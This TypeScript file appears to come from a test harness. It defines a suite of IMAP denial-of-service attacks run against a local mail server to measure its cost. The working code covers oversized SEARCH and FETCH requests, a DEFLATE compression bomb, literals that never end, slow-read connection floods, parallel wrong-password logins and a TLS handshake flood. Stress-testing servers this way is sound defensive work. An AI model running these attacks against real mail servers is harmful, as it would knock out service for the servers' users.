// What one mailbox can try over IMAP.
import { setTimeout as pause } from 'node:timers/promises'
import { createDeflateRaw } from 'node:zlib'
import { connect as secure } from 'node:tls'
import {
  atOnce,
  LINE,
  mail,
  partsMail,
  repeated,
  says,
  session,
  Session,
  type Attack,
} from './attack.ts'

const COPIES = 34
const BIG = 19 * 2 ** 20
const CHAIN = 4000
const small = (count: number) => () => repeated(count, (n) => mail([`Subject: ${n}`], `text ${n}`))
const numbers = <T>(count: number, make: (n: number) => T): T[] =>
  Array.from({ length: count }, (_, n) => make(n))
/** As large as an APPEND may be, in base64: to be decoded before anything is found in it. */
const largest = (): string =>
  mail(
    ['Subject: large', 'Content-Type: text/plain', 'Content-Transfer-Encoding: base64'],
    `${Buffer.from(LINE.repeat(2)).toString('base64').slice(0, 72)}\r\n`.repeat(650_000),
  )
const big = (): string => LINE.repeat(BIG / LINE.length)

export const BY_IMAP: readonly Attack[] = [
  {
    name: `SEARCH TEXT over ${COPIES} messages of 19 MB`,
    by: 'imap',
    fill: () => {
      const body = big()
      return repeated(COPIES, (n) => mail([`Subject: big ${n}`], body))
    },
    run: says(1, 'SEARCH TEXT zzz'),
  },
  {
    name: 'one SEARCH of 2,000 keys over 60 messages',
    by: 'imap',
    fill: () => repeated(60, (n) => mail([`Subject: ${n}`], LINE.repeat(2000))),
    // NOT is a key as well.
    run: says(1, `SEARCH ${numbers(1000, (n) => `NOT BODY z${n}`).join(' ')}`),
  },
  {
    name: 'SEARCH RETURN (SAVE), then $ in 500 keys, 20 times; on 4 connections',
    by: 'imap',
    fill: small(1000),
    run: says(
      4,
      'SEARCH RETURN (SAVE) ALL',
      ...numbers(20, () => `SEARCH ${numbers(500, () => 'OR NOT $ UID 1:*').join(' ')}`),
    ),
  },
  {
    name: 'FETCH of structures of 16 messages of 200,000 parts',
    by: 'imap',
    fill: () => repeated(16, partsMail),
    run: says(2, 'FETCH 1:* (FLAGS RFC822.SIZE ENVELOPE BODYSTRUCTURE)', 'FETCH 1:* FLAGS'),
  },
  {
    name: '100 times BODY.PEEK[]<n.19000000> in one FETCH, on 4 connections',
    by: 'imap',
    fill: () => repeated(1, () => mail(['Subject: big'], big())),
    run: says(4, `FETCH 1 (${numbers(100, (n) => `BODY.PEEK[]<${n}.19000000>`).join(' ')})`),
  },
  {
    name: 'SEARCH and FETCH of one message of 48 MB that has to be decoded, on 4 connections',
    by: 'imap',
    run: async (attacker) => {
      const text = largest()
      await session(
        attacker,
        async (one) => {
          const tag = one.begin(`APPEND Spam {${text.length}+}`)
          one.send(`${text}\r\n`)
          await one.ended(tag)
        },
        null,
      )
      await atOnce(4, () =>
        session(
          attacker,
          async (one) => {
            for (const command of ['SEARCH TEXT zzz', 'FETCH 1 BINARY.PEEK[1]', 'FETCH 1 PREVIEW'])
              await one.ask(command)
          },
          'Spam',
        ),
      )
    },
  },
  {
    name: '30 connections that ask for 19 MB each and read nothing',
    by: 'imap',
    fill: () => repeated(1, () => mail(['Subject: big'], big())),
    run: (attacker) =>
      atOnce(30, () =>
        session(attacker, async (one) => {
          for (let n = 0; n < 20; n++) one.begin('FETCH 1 BODY.PEEK[]')
          await pause(3000, null, { signal: attacker.over })
        }),
      ),
  },
  {
    name: 'sets of 10,000 ranges, 1:*,1:*,..., on 8 connections',
    by: 'imap',
    fill: small(1000),
    run: says(
      8,
      ...numbers(4, () => `UID FETCH ${'1:*,'.repeat(10_000)}1 FLAGS`),
      `UID SEARCH UID ${'1:*,'.repeat(10_000)}1`,
    ),
  },
  {
    name: 'COPY to and fro, 16 rounds over 200 messages',
    by: 'imap',
    fill: small(200),
    run: async (attacker) => {
      for (let round = 0; round < 16 && !attacker.over.aborted; round++) {
        const [from, to] = round % 2 === 0 ? ['Caught', 'Spam'] : ['Spam', 'Caught']
        await session(attacker, (one) => one.ask(`UID COPY 1:* "${to}"`), from)
      }
    },
  },
  {
    name: 'MOVE of 2,000 messages into Spam and back',
    by: 'imap',
    fill: small(2000),
    run: async (attacker) => {
      await session(attacker, (one) => one.ask('UID MOVE 1:* Spam'))
      await session(attacker, (one) => one.ask('UID MOVE 1:* Caught'), 'Spam')
    },
  },
  {
    name: `THREAD and SORT of a chain of ${CHAIN}`,
    by: 'imap',
    fill: () =>
      repeated(CHAIN, (n) =>
        mail([`Message-ID: <${n}@x>`, `In-Reply-To: <${n - 1}@x>`, `Subject: ${n}`], 'x'),
      ),
    run: says(
      2,
      'THREAD REFERENCES UTF-8 ALL',
      'THREAD REFS UTF-8 ALL',
      'SORT (SUBJECT FROM TO CC SIZE DATE ARRIVAL REVERSE SUBJECT) UTF-8 ALL',
    ),
  },
  {
    name: 'STORE of 3,000 sets of keywords',
    by: 'imap',
    fill: small(200),
    run: says(1, ...numbers(3000, (n) => `STORE ${1 + (n % 200)} FLAGS (k${n})`)),
  },
  {
    name: 'LIST with 64 patterns of 500 wildcards, 50 times',
    by: 'imap',
    run: says(
      4,
      ...numbers(
        50,
        () =>
          `LIST "" (${numbers(64, (n) => `${'*%a'.repeat(170)}${n}`).join(' ')}) RETURN (STATUS (MESSAGES UNSEEN SIZE))`,
      ),
    ),
  },
  {
    name: '30 sessions of NOTIFY that hear of 200 changes',
    by: 'imap',
    fill: small(500),
    run: async (attacker) => {
      const said = says(
        1,
        ...numbers(200, (n) => `STORE 1:* ${n % 2 ? '+' : '-'}FLAGS (\\Flagged)`),
      )
      const done = said(attacker)
      await atOnce(30, () =>
        session(attacker, async (one) => {
          await one.ask(
            'NOTIFY SET (SELECTED (MessageNew MessageExpunge FlagChange)) (PERSONAL (MessageNew MessageExpunge FlagChange))',
          )
          await done
        }),
      )
    },
  },
  {
    name: 'SELECT with an old QRESYNC value, 100 times',
    by: 'imap',
    fill: small(2000),
    run: (attacker) =>
      session(
        attacker,
        async (one) => {
          await one.ask('ENABLE QRESYNC')
          const tag = one.begin('STATUS Caught (UIDVALIDITY)')
          const validity = /UIDVALIDITY (\d+)/.exec(await one.line())?.[1] ?? '1'
          await one.ended(tag)
          for (let n = 0; n < 100; n++)
            await one.ask(`SELECT Caught (QRESYNC (${validity} 1 1:4294967295))`)
        },
        null,
      ),
  },
  {
    name: 'COMPRESS: 8 connections that inflate to 200 MB each',
    by: 'imap',
    run: (attacker) =>
      atOnce(8, () =>
        session(
          attacker,
          async (one) => {
            await one.ask('COMPRESS DEFLATE')
            const bomb = createDeflateRaw({ level: 9 })
            bomb.on('data', (piece: Buffer) => one.send(piece.toString('latin1')))
            bomb.write('a NOOP ')
            for (let n = 0; n < 200; n++)
              await new Promise<unknown>((resolve) =>
                bomb.write(Buffer.alloc(2 ** 20, 'x'), resolve),
              )
            bomb.end()
            for (;;) await one.line()
          },
          null,
        ),
      ),
  },
  {
    name: '40 connections of literals that do not end',
    by: 'imap',
    run: async (attacker) => {
      const raw = 'x'.repeat(2 ** 20 - 10)
      await atOnce(40, () =>
        session(
          attacker,
          async (one) => {
            one.send('a APPEND Spam')
            for (let n = 0; n < 60 && !attacker.over.aborted; n++) {
              one.send(` {${raw.length}}\r\n`)
              if (!(await one.line()).startsWith('+')) break
              one.send(raw)
            }
            await pause(2000, null, { signal: attacker.over })
          },
          null,
        ),
      )
    },
  },
  {
    name: '150 wrong passwords at once, of 150 names',
    by: 'imap',
    run: async (attacker) => {
      await atOnce(150, async (n) => {
        const one = new Session(attacker)
        try {
          await one.line()
          await one.ask(`LOGIN user${n}@example.com wrong`)
        } catch {
          // Sent away.
        } finally {
          one.close()
        }
      })
    },
  },
  {
    name: '500 handshakes of TLS',
    by: 'imap',
    run: async ({ victim, cost, over }) => {
      await atOnce(25, async () => {
        for (let n = 0; n < 20 && !over.aborted; n++)
          await new Promise<void>((resolve) => {
            cost.asked++
            const socket = secure({
              host: '127.0.0.1',
              port: victim.imap,
              rejectUnauthorized: false,
            })
            const end = (): void => {
              socket.destroy()
              resolve()
            }
            socket.once('secureConnect', end).once('error', end).once('close', end)
          })
      })
    },
  },
]
